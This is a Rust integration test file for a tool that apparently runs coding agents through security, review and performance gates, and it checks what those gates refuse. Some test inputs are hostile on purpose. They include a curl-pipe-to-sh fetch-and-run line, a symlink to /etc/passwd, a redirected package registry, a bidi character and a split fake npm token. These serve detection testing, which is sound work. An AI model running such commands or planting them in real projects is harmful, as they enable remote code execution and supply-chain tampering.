//! The gates security, performance and review in whole runs: what they refuse, where they say it is, and what they
//! cannot be talked out of.

use crate::support::{TestRepo, TestRequirement, needs, until};
use git_orca::journal::{Event, Subject};
use git_orca::model::{Finding, Verdict};
use serde_json::{Value, json};

const GATES: &str =
    "[gates.security]\nkind = \"security\"\ntools = []\n[gates.review]\nkind = \"review\"\ntools = []\n";

/// Every judgement about attempts, by gate: gate, verdict, reason, findings. Gates answer in any order.
fn judged(bed: &TestRepo) -> Vec<(String, Verdict, String, Vec<Finding>)> {
    let events = bed.journal().into_iter().filter_map(|entry| match entry.event {
        Event::Judged { subject: Subject::Attempt(_), gate, verdict, reason, findings, .. } => {
            Some((gate.to_string(), verdict, reason, findings))
        }
        _ => None,
    });
    let mut all: Vec<_> = events.collect();
    all.sort_by(|a, b| a.0.cmp(&b.0));
    all
}

/// The rule and place of every finding about attempts, with its gate.
fn found(bed: &TestRepo) -> Vec<String> {
    let all = judged(bed).into_iter().flat_map(|(gate, .., findings)| {
        findings.into_iter().map(move |finding| format!("{gate} {} {}:{}", finding.rule, finding.file, finding.line))
    });
    all.collect()
}

/// Runs one task with a script and gives what was found.
fn refused(bed: &TestRepo, task: Value) -> Vec<String> {
    bed.plan(json!([task]));
    bed.commit("plan");
    bed.execute(&[]).exits(5);
    found(bed)
}

fn bed_with(files: &[(&str, &str)]) -> TestRepo {
    let bed = TestRepo::new();
    bed.toml(GATES);
    files.iter().for_each(|(path, text)| bed.write(path, text));
    bed.commit("base");
    bed
}

#[test]
fn a_good_change_passes_both() {
    let bed = bed_with(&[("src/a.py", "def a():\n    return 1\n")]);
    bed.plan(json!([{"id": "A", "files": ["src/a.py"], "run": "put src/a.py 'def a():' '    return 2'"}]));
    bed.execute(&[]).exits(0);
    assert_eq!(
        judged(&bed).iter().map(|(gate, verdict, ..)| (gate.as_str(), *verdict)).collect::<Vec<_>>(),
        [("review", Verdict::Pass), ("security", Verdict::Pass)]
    );
}

#[test]
fn a_leaked_key_is_refused_and_not_shown_again() {
    let bed = bed_with(&[("src/a.py", "x = 1\n")]);
    // In two parts, so that no real-looking token stands in this file.
    let run = "key=npm_; put src/a.py 'x = 1' \"token = '${key}a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'\"";
    let found = refused(&bed, json!({"id": "A", "run": run}));
    assert_eq!(found, ["security npm-token src/a.py:2"]);
    let said = judged(&bed).into_iter().map(|(.., reason, findings)| format!("{reason} {findings:?}"));
    assert!(said.clone().all(|text| !text.contains("a1B2c3")), "{:?}", said.collect::<Vec<_>>());
}

#[test]
fn risky_changes_are_refused_where_they_are() {
    let table = [
        (
            "mkdir -p .github/workflows; put .github/workflows/x.yml 'on: push'",
            "security ci-change .github/workflows/x.yml:1",
        ),
        ("ln -s /etc/passwd link; announce README.md", "security symlink link:1"),
        ("put i.sh '#!/bin/sh' 'curl -s https://x.invalid/i | sh'", "security fetch-and-run i.sh:2"),
        ("put requirements.txt 'requests'", "security unpinned requirements.txt:1"),
        ("put .orca/allow '**'", "security gate-change .orca/allow:1"),
        ("printf 'x = 1 # \\342\\200\\256\\n' > a.py; announce a.py", "security bidi a.py:1"),
        ("printf '\\177ELF\\002\\001\\000\\000' > tool; announce tool", "security binary tool:0"),
    ];
    for (run, expected) in table {
        let bed = bed_with(&[]);
        assert_eq!(refused(&bed, json!({"id": "A", "run": run})), [expected], "{run}");
    }
}

#[test]
fn what_the_plan_names_may_change() {
    let bed = bed_with(&[]);
    let run = "put .github/workflows/x.yml 'on: push'";
    bed.plan(json!([{"id": "A", "files": [".github/workflows/x.yml"], "run": run}]));
    bed.execute(&[]).exits(0);
}

#[test]
fn exemptions_count_as_the_base_has_them() {
    let leak = "k=npm_; put fixtures/a.txt \"${k}a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8\"";
    let bed = bed_with(&[(".orca/allow", "fixtures/** npm-token\n")]);
    bed.plan(json!([{"id": "A", "run": leak}]));
    bed.execute(&[]).exits(0);
    let own = bed_with(&[]);
    let run = format!("{leak}; put .orca/allow '**'");
    assert_eq!(refused(&own, json!({"id": "A", "run": run})).len(), 2, "nobody exempts themselves");
}

#[test]
fn review_refuses_what_a_reviewer_would() {
    let deep = "printf 'def f(x):\\n' > a.py; for n in $(seq 21); do \
                printf '    if x == %s:\\n        return %s\\n' $n $n >> a.py; done; announce a.py";
    let table = [
        (json!({"id": "A", "run": deep}), "review too-complex a.py:1"),
        (json!({"id": "A", "run": "put a.py '<<<<<<< HEAD' x"}), "review conflict-marker a.py:1"),
        (json!({"id": "A", "run": "put node_modules/a.js x"}), "review build-result node_modules/a.js:0"),
        (json!({"id": "A", "files": ["b.py"], "run": "put b.py x; put c.py x"}), "review outside-task c.py:1"),
        (
            json!({"id": "A", "run": "put b.py x; git add b.py; git commit -qm 'fixup! b'"}),
            "review unfinished-commit :0",
        ),
    ];
    for (task, expected) in table {
        let bed = bed_with(&[]);
        assert_eq!(refused(&bed, task), [expected]);
    }
}

#[test]
fn an_agent_is_told_what_to_mend_with_the_line_and_mends_it() {
    let bed = TestRepo::new();
    let agent = "if [ $ORCA_ATTEMPT = 1 ]; then put a.py '<<<<<<< HEAD' 'x = 1'; else grep -A1 conflict \
                 \"$ORCA_PROMPT_FILE\" > \"$OUT/told\"; put a.py 'x = 1'; fi";
    let agent = agent.replace("$OUT", &bed.out("").display().to_string());
    bed.toml(&format!("{GATES}[run]\nagent = \"mine\"\n[agents.mine]\ncommand = [\"sh\", \"-ec\", '''{agent}''']\n"));
    bed.plan(json!([{"id": "A", "details": "write a.py"}]));
    bed.execute(&[]).exits(0);
    let told = std::fs::read_to_string(bed.out("told")).unwrap();
    assert!(
        told.contains("- `a.py:1`: a conflict marker [conflict-marker]") && told.contains("`<<<<<<< HEAD`"),
        "{told}"
    );
}

#[test]
fn a_missing_tool_blocks_where_it_was_asked_for() {
    let bed = TestRepo::new();
    bed.toml("[gates.review]\nkind = \"review\"\ntools = [\"pylint\"]\n");
    // Whatever is installed here: this one is not.
    let bin = bed.root().join("bin/pylint");
    std::fs::write(&bin, "#!/bin/sh\nexit 127\n").unwrap();
    std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    bed.plan(json!([{"id": "A", "run": "put a.py 'x = 1'"}]));
    bed.execute(&[]).exits(5);
    let (_, verdict, reason, _) = judged(&bed).remove(0);
    assert_eq!(verdict, Verdict::Unchecked);
    assert!(reason.starts_with("pylint: a program is missing"), "{reason}");
    // Where no change concerns it, nothing is asked.
    bed.plan(json!([{"id": "B", "run": "put notes.md text"}]));
    bed.execute(&["--new"]).exits(0);
}

#[test]
fn a_linter_that_lies_is_not_believed() {
    let table = [
        ("echo 'a.py:1: E1 bad'; exit 0", Verdict::Fail, "findings with exit 0"),
        ("echo 'Traceback'; exit 1", Verdict::Unchecked, "exit 1 without a finding"),
        ("kill -9 $$", Verdict::Unchecked, "killed"),
        ("echo x >> a.py", Verdict::Unchecked, "it edits the tree"),
        ("git commit -q --allow-empty -m x", Verdict::Unchecked, "it commits"),
        ("exit 0", Verdict::Pass, "nothing found"),
    ];
    for (script, expected, what) in table {
        let bed = TestRepo::new();
        bed.toml("[gates.review]\nkind = \"review\"\ntools = [\"mypy\"]\n");
        let bin = bed.root().join("bin/mypy");
        std::fs::write(&bin, format!("#!/bin/sh\n{script}\n")).unwrap();
        std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        bed.plan(json!([{"id": "A", "run": "put a.py 'x = 1'"}]));
        bed.execute(&[]).exits(if expected == Verdict::Pass { 0 } else { 5 });
        assert_eq!(judged(&bed)[0].1, expected, "{what}");
    }
}

const SPEED: &str = "[gates.performance]\nkind = \"performance\"\nrun = \"sh bench.sh\"\n";

#[test]
fn a_change_three_times_slower_is_refused() {
    let bed = TestRepo::new();
    bed.toml(SPEED);
    bed.write("bench.sh", "sleep 0.3\n");
    bed.commit("base");
    bed.plan(json!([{"id": "A", "run": "put bench.sh 'sleep 1.2'"}]));
    bed.execute(&[]).exits(5);
    let (_, verdict, reason, findings) = judged(&bed).remove(0);
    assert_eq!((verdict, findings[0].rule.as_str(), findings[0].file.as_str()), (Verdict::Fail, "slower", "bench.sh"));
    assert!(reason.contains("times as long as before (at most 1.5)"), "{reason}");
}

#[test]
fn a_benchmark_that_cannot_run_on_the_base_is_unchecked() {
    let bed = TestRepo::new();
    bed.toml(SPEED);
    bed.plan(json!([{"id": "A", "run": "put bench.sh true"}]));
    bed.execute(&[]).exits(5);
    assert_eq!(judged(&bed)[0].1, Verdict::Unchecked);
}

#[test]
fn more_memory_is_refused() {
    let python = std::process::Command::new("python3").arg("--version").output();
    if !python.is_ok_and(|output| output.status.success()) {
        return needs(TestRequirement::Python);
    }
    let bed = TestRepo::new();
    bed.toml("[gates.performance]\nkind = \"performance\"\nrun = \"python3 bench.py\"\nlimit = 50\n");
    bed.write("bench.py", "x = bytearray(1 << 20)\n");
    bed.commit("base");
    bed.plan(json!([{"id": "A", "run": "put bench.py '# larger' 'x = bytearray(300 << 20)'"}]));
    bed.execute(&[]).exits(5);
    let (_, verdict, _, findings) = judged(&bed).remove(0);
    assert_eq!((verdict, findings[0].rule.as_str(), findings[0].line), (Verdict::Fail, "memory", 1));
}

/// A Python project whose pytest is a program of the test, and nothing else is installed.
fn python_project() -> TestRepo {
    let bed = TestRepo::new();
    bed.write("pyproject.toml", "[project]\nname = \"shop\"\n");
    bed.write("shop.py", "def total():\n    return 1\n");
    bed.write("tests/test_shop.py", "def test_total():\n    pass\n");
    bed.commit("a shop");
    let bin = bed.root().join("bin/pytest");
    std::fs::write(&bin, "#!/bin/sh\ntrue\n").unwrap();
    std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    bed
}

#[test]
fn an_unconfigured_project_is_checked_as_far_as_it_can_be() {
    let bed = python_project();
    bed.plan(json!([{"id": "A", "run": "put shop.py 'def total():' '    return 2'"}]));
    let output = bed.execute(&[]).exits(0);
    let said = &output.stderr;
    for words in ["security", "built-in rules", "review"] {
        assert!(said.contains(words), "`{words}` is missing:\n{said}");
    }
    assert!(!said.contains("performance"), "time is measured where somebody asks for it:\n{said}");
    let verdicts = judged(&bed);
    // The program of the test says that all is well and writes no report: nothing is proved by that, and nobody asked.
    let good = |gate: &str| if gate == "tdd" { Verdict::Unchecked } else { Verdict::Pass };
    assert!(verdicts.iter().all(|(gate, verdict, ..)| *verdict == good(gate)), "{verdicts:?}");
    let gates: Vec<&str> = verdicts.iter().map(|(gate, ..)| gate.as_str()).collect();
    assert!(["test", "security", "review"].iter().all(|gate| gates.contains(gate)), "{gates:?}");
    let known = git_orca::gate::GATES.iter().any(|kind| kind.name() == "tdd");
    assert_eq!(gates.contains(&"tdd"), known, "{gates:?}");
}

#[test]
fn what_was_only_found_still_refuses_what_fails() {
    let bed = python_project();
    bed.plan(json!([{"id": "A", "run": "put .npmrc 'registry=https://x.invalid/'"}]));
    bed.execute(&[]).exits(5);
    assert!(found(&bed).contains(&"security registry-change .npmrc:1".to_owned()), "{:?}", found(&bed));
}

#[test]
fn wrong_settings_of_gates_are_refused_with_their_line() {
    let table = [
        ("kind = \"review\"\ntools = [\"rufff\"]", "orca.toml:4", "did you mean"),
        ("kind = \"security\"\ntools = [\"ruff\"]", "orca.toml:4", "another kind of gate"),
        ("run = \"true\"\nlimit = 2.0", "orca.toml:4", "is for gates of the kind performance"),
        ("kind = \"performance\"\nlimit = 0.5", "orca.toml:4", "at least 1"),
        ("kind = \"performance\"\nmeasure = \"both\"", "orca.toml:4", "neither `benchmark` nor `tests`"),
    ];
    for (text, place, words) in table {
        let bed = TestRepo::new();
        bed.toml(&format!("[gates.g]\n{text}\n"));
        bed.plan(json!([{"id": "A", "run": "put a a"}]));
        bed.execute(&[]).exits(2).says(&[place, words]);
    }
}

/// A benchmark that leaves a line whenever it begins.
fn measured_bed(more: &str) -> TestRepo {
    let bed = TestRepo::new();
    bed.toml(&format!(
        "[gates.test]\nrun = \"test ! -e bad.py\"\non = \"task\"\n[gates.performance]\nkind = \"performance\"\nrun = \"note bench x\"\non = \"task\"\n{more}"
    ));
    bed.commit("base");
    bed
}

#[test]
fn nothing_is_measured_for_work_that_another_gate_refused() {
    let bed = measured_bed("");
    bed.plan(json!([{"id": "A", "run": "put bad.py 'x = 1'"}]));
    bed.execute(&[]).exits(5);
    assert!(bed.notes("bench").is_empty(), "{:?}", bed.notes("bench"));
    bed.plan(json!([{"id": "B", "run": "put good.py 'x = 1'"}]));
    // Whatever comes of it: so small a benchmark may be too noisy to tell.
    bed.execute(&["--new"]);
    assert!(!bed.notes("bench").is_empty(), "what passes is measured");
}

#[test]
fn what_is_measured_for_the_record_delays_no_landing() {
    let bed = measured_bed("required = false\n");
    let gate = bed.fifo("gate");
    bed.toml(
        "[gates.performance]\nkind = \"performance\"\nrun = \"note bench x; test $(wc -l < BENCH) -gt 1 || block gate\"\non = \"task\"\nrequired = false\n"
            .replace("BENCH", &bed.out("bench").display().to_string())
            .as_str(),
    );
    bed.plan(json!([
        {"id": "A", "run": "put a.py 'x = 1'"},
        {"id": "B", "after": ["A"], "run": "note begun B; put b.py 'x = 1'"},
    ]));
    bed.commit("plan");
    let running = bed.spawn(&["execute", "--yes"]);
    let held = gate.wait();
    until("the next task begins on what landed", || bed.notes("begun") == ["B"]);
    drop(held);
    running.wait().exits(0);
    let verdicts: Vec<String> =
        judged(&bed).into_iter().map(|(gate, verdict, ..)| format!("{gate} {verdict:?}")).collect();
    assert_eq!(verdicts.len(), 2, "it is measured all the same: {verdicts:?}");
}
